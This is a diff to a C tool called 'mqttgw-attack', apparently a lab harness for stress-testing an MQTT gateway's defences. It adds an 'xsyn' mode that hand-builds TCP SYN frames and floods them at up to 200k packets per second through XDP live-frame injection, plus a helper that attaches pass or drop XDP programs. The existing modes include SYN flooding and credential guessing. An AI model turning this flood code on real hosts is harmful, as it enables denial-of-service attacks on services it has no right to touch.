@@ -14,10 +14,24 @@
  *       one legitimate client: an authenticated CONNECT -> CONNACK every 1/PER_S s (default
  *       20/s), timed from connect() to the CONNACK; one that is not accepted within
  *       TIMEOUT_MS (default 3000) counts as failed.
+ *   mqttgw-attack xsyn DST PORT SECONDS -i IFNAME -m DSTMAC [-r PPS]
+ *       the same SYN (one source port) as XDP frames, not skbs: BPF_PROG_TEST_RUN in live-frames
+ *       mode runs `return XDP_TX` on IFNAME (the attacker's veth), whose peer receives each
+ *       frame as a NIC would hand it to XDP, before any skb exists (a veth only accepts them
+ *       when the peer has NAPI on: an XDP program, e.g. `xpass`). Paced to PPS (default 200k).
+ *   mqttgw-attack xpass IFNAME SECONDS [drop]
+ *       attach `return XDP_PASS` (or XDP_DROP) to IFNAME (native mode) for SECONDS: the
+ *       receiving veth's NAPI for xsyn when nothing else is attached (the nftables and
+ *       no-limit runs); `drop` is the floor: what the sender and the veth cost by themselves.
+ * syn and xsyn report their own CPU time (cpu_s): on veth the receiver's softirq mostly runs
+ * in the sender's context (when it re-enables bottom halves), so it is part of it.
  * Each prints one JSON line on stdout at the end.
  */
 #include <errno.h>
 #include <arpa/inet.h>
+#include <linux/bpf.h>
+#include <net/if.h>
+#include <netinet/ether.h>
 #include <netinet/in.h>
 #include <poll.h>
 #include <pthread.h>
@@ -26,7 +40,9 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/socket.h>
+#include <sys/syscall.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -41,7 +57,7 @@ struct opts {
 	struct sockaddr_in dst;
 	double seconds, rate;
 	int threads, timeout_ms;
-	const char *user, *pass;
+	const char *user, *pass, *ifname, *dmac;
 };
 
 static struct opts O;
@@ -52,6 +68,14 @@ static double now_s(void)
 	struct timespec ts;
 
 	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static double cpu_s(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
 	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
 }
 
@@ -143,6 +167,135 @@ static void *syn_thread(void *arg)
 	close(fd);
 	atomic_fetch_add(&n_sent, sent);
 	return NULL;
+}
+
+/* ---- SYNs as XDP frames (xsyn, xpass) ---- */
+
+/*
+ * Two-instruction programs loaded with the bpf() syscall: libbpf and an object file would
+ * add nothing to `r0 = verdict; exit`.
+ */
+static int prog_load(int verdict)
+{
+	struct bpf_insn insns[2] = {
+	    {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = verdict},
+	    {.code = BPF_JMP | BPF_EXIT},
+	};
+	union bpf_attr a;
+
+	memset(&a, 0, sizeof(a));
+	a.prog_type = BPF_PROG_TYPE_XDP;
+	a.insns = (uintptr_t)insns;
+	a.insn_cnt = 2;
+	a.license = (uintptr_t) "GPL";
+	return (int)syscall(__NR_bpf, BPF_PROG_LOAD, &a, sizeof(a));
+}
+
+static int xpass_main(void)
+{
+	union bpf_attr a;
+	int prog = prog_load(O.user && !strcmp(O.user, "drop") ? XDP_DROP : XDP_PASS), link;
+
+	memset(&a, 0, sizeof(a));
+	a.link_create.prog_fd = (uint32_t)prog;
+	a.link_create.target_ifindex = if_nametoindex(O.ifname);
+	a.link_create.attach_type = BPF_XDP;
+	link = prog < 0 ? prog : (int)syscall(__NR_bpf, BPF_LINK_CREATE, &a, sizeof(a));
+	if (link < 0) {
+		perror("xpass: attach");
+		return 1;
+	}
+	/* The link holds the attachment: it ends when this process does. */
+	sleep_until(now_s() + O.seconds);
+	printf("{\"attached\":\"%s\"}\n", O.ifname);
+	return 0;
+}
+
+/* Ethernet + IPv4 + TCP SYN from IFNAME's address and MAC to O.dst, O.dmac; 54 bytes. */
+static int build_frame(uint8_t *f)
+{
+	struct ifreq ifr;
+	struct ether_addr *dm = ether_aton(O.dmac);
+	int fd = socket(AF_INET, SOCK_DGRAM, 0);
+	uint8_t *ip = f + 14, *th = f + 34;
+	uint32_t s;
+
+	memset(&ifr, 0, sizeof(ifr));
+	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", O.ifname);
+	if (!dm || fd < 0 || ioctl(fd, SIOCGIFHWADDR, &ifr))
+		return -1;
+	memcpy(f, dm, 6);
+	memcpy(f + 6, ifr.ifr_hwaddr.sa_data, 6);
+	f[12] = 0x08; /* IPv4 */
+	if (ioctl(fd, SIOCGIFADDR, &ifr))
+		return -1;
+	close(fd);
+	ip[0] = 0x45;
+	ip[3] = 40; /* total length */
+	ip[6] = 0x40; /* DF */
+	ip[8] = 64;
+	ip[9] = IPPROTO_TCP;
+	memcpy(ip + 12, &((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr, 4);
+	memcpy(ip + 16, &O.dst.sin_addr, 4);
+	th[0] = 40000 >> 8;
+	th[1] = 40000 & 0xff;
+	memcpy(th + 2, &O.dst.sin_port, 2);
+	th[7] = 1; /* sequence number */
+	th[12] = 5 << 4;
+	th[13] = 0x02; /* SYN */
+	th[14] = th[15] = 0xff;
+	for (s = sum16(0, ip, 20); s >> 16;)
+		s = (s & 0xffff) + (s >> 16);
+	ip[10] = (uint8_t)(~s >> 8);
+	ip[11] = (uint8_t)~s;
+	for (s = sum16(sum16(IPPROTO_TCP + 20, ip + 12, 8), th, 20); s >> 16;)
+		s = (s & 0xffff) + (s >> 16);
+	th[16] = (uint8_t)(~s >> 8);
+	th[17] = (uint8_t)~s;
+	return 0;
+}
+
+static int xsyn_main(void)
+{
+	uint8_t frame[54] = {0};
+	struct xdp_md ctx = {0};
+	union bpf_attr a;
+	double t0, end, rate = O.rate > 0 ? O.rate : 200000;
+	unsigned long long sent = 0;
+	int prog = prog_load(XDP_TX);
+	/*
+	 * Each call sets up a page pool and writes the frame into its pages: measured here, 200
+	 * frames a call reached 50-80k/s, so about 50 calls a second (pacing within 20 ms).
+	 */
+	uint32_t burst = rate / 50 < 64 ? 64 : (uint32_t)(rate / 50);
+
+	ctx.data_end = sizeof(frame); /* the kernel checks that the context spans the frame */
+	ctx.ingress_ifindex = if_nametoindex(O.ifname);
+	if (prog < 0 || !ctx.ingress_ifindex || build_frame(frame)) {
+		perror("xsyn: setup");
+		return 1;
+	}
+	t0 = now_s();
+	end = t0 + O.seconds;
+	while (now_s() < end) {
+		memset(&a, 0, sizeof(a));
+		a.test.prog_fd = (uint32_t)prog;
+		a.test.data_in = (uintptr_t)frame;
+		a.test.data_size_in = sizeof(frame);
+		a.test.ctx_in = (uintptr_t)&ctx;
+		a.test.ctx_size_in = sizeof(ctx);
+		a.test.repeat = burst;
+		a.test.flags = BPF_F_TEST_XDP_LIVE_FRAMES;
+		if (syscall(__NR_bpf, BPF_PROG_TEST_RUN, &a, sizeof(a))) {
+			perror("xsyn: BPF_PROG_TEST_RUN");
+			return 1;
+		}
+		sent += burst;
+		sleep_until(t0 + (double)sent / rate);
+	}
+	printf("{\"sent\":%llu,\"pps\":%.0f,\"cpu_s\":%.3f}\n", sent,
+	       (double)sent / (now_s() - t0), cpu_s());
+	return 0;
 }
 
 /* ---- MQTT CONNECT attempts ---- */
@@ -272,8 +425,9 @@ static int run_threads(void *(*fn)(void *))
 
 static int usage(void)
 {
-	fprintf(stderr, "usage: mqttgw-attack syn|guess|legit DST PORT SECONDS [-t THREADS] "
-			"[-r RATE] [-T TIMEOUT_MS] [-u USER] [-P PASSWORD]\n");
+	fprintf(stderr, "usage: mqttgw-attack syn|guess|legit|xsyn DST PORT SECONDS [-t THREADS] "
+			"[-r RATE] [-T TIMEOUT_MS] [-u USER] [-P PASSWORD] [-i IFNAME -m DSTMAC]\n"
+			"       mqttgw-attack xpass IFNAME SECONDS\n");
 	return 2;
 }
 
@@ -283,9 +437,17 @@ int main(int argc, char **argv)
 	double t0;
 	int opt;
 
-	if (argc < 5)
+	if (argc < 4)
 		return usage();
 	mode = argv[1];
+	if (!strcmp(mode, "xpass")) {
+		O.ifname = argv[2];
+		O.seconds = atof(argv[3]);
+		O.user = argc > 4 ? argv[4] : NULL;
+		return O.seconds > 0 ? xpass_main() : usage();
+	}
+	if (argc < 5)
+		return usage();
 	O.dst.sin_family = AF_INET;
 	if (inet_pton(AF_INET, argv[2], &O.dst.sin_addr) != 1)
 		return usage();
@@ -294,7 +456,7 @@ int main(int argc, char **argv)
 	O.threads = !strcmp(mode, "syn") ? 2 : 16;
 	O.timeout_ms = 3000;
 	optind = 5;
-	while ((opt = getopt(argc, argv, "t:r:T:u:P:")) != -1) {
+	while ((opt = getopt(argc, argv, "t:r:T:u:P:i:m:")) != -1) {
 		if (opt == 't')
 			O.threads = atoi(optarg);
 		else if (opt == 'r')
@@ -305,6 +467,10 @@ int main(int argc, char **argv)
 			O.user = optarg;
 		else if (opt == 'P')
 			O.pass = optarg;
+		else if (opt == 'i')
+			O.ifname = optarg;
+		else if (opt == 'm')
+			O.dmac = optarg;
 		else
 			return usage();
 	}
@@ -313,11 +479,13 @@ int main(int argc, char **argv)
 	t0 = now_s();
 	if (!strcmp(mode, "legit"))
 		return legit_main();
+	if (!strcmp(mode, "xsyn"))
+		return O.ifname && O.dmac ? xsyn_main() : usage();
 	if (!strcmp(mode, "syn")) {
 		if (run_threads(syn_thread))
 			return 1;
-		printf("{\"sent\":%llu,\"pps\":%.0f}\n", (unsigned long long)n_sent,
-		       (double)n_sent / (now_s() - t0));
+		printf("{\"sent\":%llu,\"pps\":%.0f,\"cpu_s\":%.3f}\n", (unsigned long long)n_sent,
+		       (double)n_sent / (now_s() - t0), cpu_s());
 		return 0;
 	}
 	if (!strcmp(mode, "guess")) {
